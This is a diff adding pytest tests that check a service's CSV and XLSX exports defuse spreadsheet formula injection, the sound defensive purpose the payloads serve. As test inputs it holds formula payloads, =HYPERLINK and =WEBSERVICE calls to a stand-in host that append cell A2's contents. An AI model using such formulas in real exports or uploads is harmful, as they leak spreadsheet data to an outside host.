@@ -112,3 +112,30 @@ def test_accuracy_bands() -> None:
     assert (top["min_confidence"], top["reviewed"], top["correct"], top["accuracy"]) == (95, 2, 1, 0.5)
     assert n["bands"][0]["accuracy"] == 1.0 and n["bands"][2]["accuracy"] is None
     assert result["fields"]["items.what"]["bands"][3]["reviewed"] == 1 and "items.amount" not in result["fields"]
+
+
+def test_exports_never_carry_a_live_formula(api: httpx.Client) -> None:
+    workflow = api.post("/v2/workflows/", json={"name": "Formulas", "fields": INVOICE_FIELDS}).json()
+    run = api.post(f"/v2/workflows/{workflow['id']}/run/",
+                   files={"file": ('=HYPERLINK("http://x.test/"&A2).txt', b"Invoice number: N-1\nTotal: 5.00",
+                                   "text/plain")}).json()
+    assert wait_processed(api, run["id"]).status_code == 200
+    attack = '=WEBSERVICE("http://x.test/?"&A2)'
+    assert api.patch(f"/v2/files/{run['id']}/fields/invoice_number/", json={"value": attack}).status_code == 200
+    assert api.patch(f"/v2/files/{run['id']}/fields/total/", json={"value": -5.0}).status_code == 200
+
+    row = next(csv.DictReader(io.StringIO(_export(api, workflow["id"], "csv").text)))
+    assert row["invoice_number"] == "'" + attack and row["file_name"].startswith("'=HYPERLINK")
+    assert row["total"] == "-5.0"  # a number is not a formula
+
+    book = load_workbook(io.BytesIO(_export(api, workflow["id"], "xlsx").content))
+    cells = {cell.value: cell.data_type for cell in book["fields"][2]}
+    assert cells[attack] == "s" and cells[-5.0] == "n"
+    assert all(t != "f" for line in book["fields"].iter_rows() for t in (c.data_type for c in line))
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
+def test_csv_cells_that_start_a_formula_are_inert(text: str) -> None:
+    entry = exports.Entry(text, "c1", "processed", None, [FieldSpec("n")], {"n": {"value": text}})
+    row = next(csv.DictReader(io.StringIO(exports.as_csv([entry]).decode())))
+    assert row["file_name"] == row["n"] == "'" + text
